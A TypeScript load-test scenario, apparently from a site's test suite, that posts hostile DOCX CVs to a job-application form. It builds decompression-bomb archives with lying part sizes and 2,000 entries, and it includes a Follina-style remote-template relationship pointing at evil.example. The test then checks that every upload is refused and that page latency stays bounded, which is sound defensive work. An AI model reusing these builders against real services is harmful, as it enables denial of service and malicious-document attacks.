import { deflateSync, zipSync } from 'fflate';
import { buildPath } from '../../shared/routes/index.ts';
import { deflatedZeros, docxParts, zipOf } from '../../tests/support/uploads.ts';
import { autocannon, type AutocannonResult, type RequestData } from './autocannon.ts';
import { keptPages } from './kept-pages.ts';
import type { LoadWorker } from './worker.ts';

/**
 * `npm run load -- hostile`: what hostile uploads do to visitors of kept pages (docs/product.md
 * "Forms: fields and uploads": every check is bounded). Kept pages alone for a while (quiet),
 * then the same pages while job applications post a hostile 1 MB CV each, three at a time, one
 * after another for the whole run: a DOCX whose parts lie about their sizes, one whose parts fill
 * the inflate budget, one of 2,000 entries, the last two refused only at their last part (a
 * remote template). Each is refused (400) with a valid bot-check token beside it. Prints kept pages' p50 and p99 in both runs; passes when the p50 under the
 * uploads is at most twice the quiet one, with no 5xx, no connection error and every upload refused.
 * The uploads come at a stated rate, three at once each second, not as fast as the machine can
 * send them: uploads back to back from one machine measure how many 1 MB posts of any kind the one
 * local isolate can take (the flood scenario's question, `npm run load -- flood`), not what the
 * checks cost. HOSTILE_PAGE_CONNECTIONS (10), HOSTILE_UPLOADS (3, at once) and
 * HOSTILE_UPLOADS_PER_S (3) change it.
 */
const pageConnections = Number(process.env.HOSTILE_PAGE_CONNECTIONS ?? 10);
const uploadsAtOnce = Number(process.env.HOSTILE_UPLOADS ?? 3);
const uploadsPerSecond = Number(process.env.HOSTILE_UPLOADS_PER_S ?? 3);
/** Kept pages' p50 under the uploads may be at most this many times the quiet one. */
export const MAX_P50_RATIO = 2;

const encode = (text: string) => new TextEncoder().encode(text);
/** About 1 MB in all: a CV with a scanned picture, stored as pictures are (already compressed). */
const PADDING_BYTES = 900 * 1024;

/** Bytes no compressor shrinks, the same on every run. */
function picture(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 1;
  for (let index = 0; index < length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[index] = state >>> 24;
  }
  return bytes;
}

/** The remote template (Follina's way in) that makes a CV refused, last, once everything before it was read. */
const REMOTE_TEMPLATE =
  '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';

/** A relationships part of about `size` bytes: a long list of pictures, as a document full of them has; `last` ends it. */
function relationships(size: number, last = ''): Uint8Array {
  let xml = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
  for (let id = 1; xml.length < size - 400; id += 1) {
    xml += `<Relationship Id="rId${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image${id}.png"/>`;
  }
  return encode(`${xml}${last}</Relationships>`);
}

/** Seven relationship parts that each say 64 KiB and inflate to 8 MiB of zeros, behind the picture. */
export function lyingSizes(): Uint8Array {
  const pad = picture(PADDING_BYTES);
  return zipOf([
    ...docxParts(),
    { name: 'word/media/image1.png', method: 0, data: pad, size: pad.length },
    ...Array.from({ length: 7 }, (_, index) => ({
      name: `word/_rels/part${index}.xml.rels`,
      method: 8,
      data: deflatedZeros(8 * 1024 * 1024),
      size: 64 * 1024,
    })),
  ]);
}

/** Eight relationship parts of nearly 64 KiB: all the inflate budget (512 KiB) read and parsed, a remote template at the very end. */
export function fullBudget(): Uint8Array {
  const pad = picture(PADDING_BYTES);
  return zipOf([
    ...docxParts(),
    { name: 'word/media/image1.png', method: 0, data: pad, size: pad.length },
    ...Array.from({ length: 8 }, (_, index) => {
      const part = relationships(64 * 1024, index === 7 ? REMOTE_TEMPLATE : '');
      return { name: `word/_rels/header${index}.xml.rels`, method: 8, data: deflateSync(part, { level: 1 }), size: part.length };
    }),
  ]);
}

/** 2,000 entries, the most a CV may have, a hundred of them relationship parts to read, a remote template in the last. */
export function manyEntries(): Uint8Array {
  const files: Record<string, Uint8Array | [Uint8Array, { level: 0 }]> = {};
  for (const part of docxParts()) files[part.name] = part.data;
  files['word/media/image1.png'] = [picture(PADDING_BYTES), { level: 0 }];
  for (let index = 0; index < 99; index += 1)
    files[`word/_rels/footnote${index}.xml.rels`] = relationships(600, index === 98 ? REMOTE_TEMPLATE : '');
  const thumbnails = 2000 - Object.keys(files).length;
  for (let index = 0; index < thumbnails; index += 1) files[`word/media/thumb${index}.emf`] = picture(64);
  return zipSync(files);
}

const BOUNDARY = '----lagoserena-load-hostile';

/** A job application's multipart body: the fields, a fresh bot-check token (each is single-use), the CV. */
function applicationBody(cv: Uint8Array, surname: string, token: string): Buffer {
  const fields: Record<string, string> = {
    form: 'application',
    surname,
    name: 'Carico',
    birthplace: 'Verona',
    birthDate: '03/04/1998',
    privacy: 'on',
    'botcheck-token': token,
  };
  const text = Object.entries(fields)
    .map(([name, value]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
    .join('');
  const file = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="cv"; filename="cv.docx"\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\r\n`;
  return Buffer.concat([Buffer.from(text + file), cv, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]);
}

const clientAddress = () =>
  `10.${Math.floor(Math.random() * 64)}.${Math.floor(Math.random() * 256)}.${1 + Math.floor(Math.random() * 254)}`;

function hostileUploads(worker: LoadWorker, duration: number, answers: Record<number, number>): Promise<AutocannonResult> {
  const cvs = [lyingSizes(), fullBudget(), manyEntries()];
  const path = buildPath('spontaneousApplication', 'en');
  const runId = Date.now().toString(36);
  let sent = 0;
  return autocannon({
    url: worker.url,
    connections: uploadsAtOnce,
    overallRate: uploadsPerSecond,
    duration,
    requests: [
      {
        setupRequest(request: RequestData) {
          sent += 1;
          const token = `demo.application.0.9.${Date.now()}-${runId}${sent}`;
          return {
            ...request,
            method: 'POST',
            path,
            body: applicationBody(cvs[sent % cvs.length] as Uint8Array, `Ostile-${runId}-${sent}`, token),
            headers: {
              'Content-Type': `multipart/form-data; boundary=${BOUNDARY}`,
              Accept: 'application/json',
              Origin: worker.url,
              'CF-Connecting-IP': clientAddress(),
            },
          };
        },
        onResponse(status: number) {
          answers[status] = (answers[status] ?? 0) + 1;
        },
      },
    ],
  });
}

const statuses = (result: AutocannonResult) =>
  Object.entries(result.statusCodeStats)
    .map(([status, stats]) => `${status} × ${stats.count}`)
    .join(', ');

const figures = (result: AutocannonResult) =>
  `p50 ${result.latency.p50} ms, p99 ${result.latency.p99} ms, ${result.requests.average.toFixed(0)} req/s (${statuses(result)})`;

/** Both runs and the report; 1 when kept pages slowed past the ratio, an upload was not refused, or anything failed. */
export async function hostile(worker: LoadWorker, pages: string[], duration: number): Promise<number> {
  console.log(`quiet: kept pages at ${pageConnections} connections for ${duration} s …`);
  const quiet = await keptPages(worker.url, pages, duration, pageConnections);
  console.log(
    `hostile: the same, beside hostile 1 MB CVs, ${uploadsAtOnce} at a time and ${uploadsPerSecond} a second, for ${duration} s …`,
  );
  const answers: Record<number, number> = {};
  const [busy, uploads] = await Promise.all([
    keptPages(worker.url, pages, duration, pageConnections),
    hostileUploads(worker, duration, answers),
  ]);
  const ratio = busy.latency.p50 / Math.max(quiet.latency.p50, 1);
  const answered = Object.entries(answers)
    .map(([status, count]) => `${status} × ${count}`)
    .join(', ');
  console.log(
    [
      `kept pages, quiet            ${figures(quiet)}`,
      `kept pages, hostile uploads  ${figures(busy)}`,
      `hostile uploads              ${figures(uploads)}`,
      `p50 under uploads / quiet    ${ratio.toFixed(2)} (at most ${MAX_P50_RATIO})`,
    ].join('\n'),
  );
  const failures = [
    ratio > MAX_P50_RATIO && `kept pages' p50 under hostile uploads is ${ratio.toFixed(2)} times the quiet one`,
    [quiet, busy, uploads].some((result) =>
      Object.entries(result.statusCodeStats).some(([status, stats]) => Number(status) >= 500 && stats.count > 0),
    ) && '5xx answers',
    [quiet, busy, uploads].some((result) => result.errors + result.timeouts > 0) && 'connection errors or timeouts',
    Object.keys(answers).some((status) => status !== '400') && `an upload was not refused with 400 (${answered})`,
    !answers[400] && 'no upload was answered',
  ].filter(Boolean);
  for (const failure of failures) console.error(`FAIL: ${failure}`);
  return failures.length === 0 ? 0 : 1;
}
